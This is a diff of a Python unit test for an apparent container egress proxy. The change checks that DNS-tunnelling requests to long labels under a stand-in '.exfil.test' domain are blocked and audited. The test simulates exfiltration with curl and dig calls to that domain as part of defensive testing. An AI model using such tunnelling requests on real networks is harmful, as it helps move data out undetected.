@@ -283,7 +283,10 @@ class DnsTest(unittest.TestCase):
         self.assertTrue(records[0]["host"].endswith(".exfil.test"), records[0])
         self.assertEqual(records[0]["containerId"], "tunnel-1")
         # Egress does not carry it either, other names are not concerned, nor are other containers.
-        self.assertEqual(container.curl(f"http://{'x' * 63}.exfil.test/", address="203.0.113.10").status, 502)
+        response = container.curl(f"http://{'x' * 63}.exfil.test/", address="203.0.113.10")
+        self.assertEqual((response.status, response.reason), (502, "dns_tunnel"), response)
+        (record,) = self.world.audit.await_matching(since=before, containerId="tunnel-1", scheme="http")
+        self.assertEqual((record["decision"], record["reason"], record["status"]), ("error", "dns_tunnel", 502), record)
         self.assertEqual(self.dig("+short", "v4.test", container=container).strip(), "203.0.113.10")
         self.assertEqual(self.dig("+short", f"{'y' * 63}.exfil.test").strip(), "203.0.113.10")
 
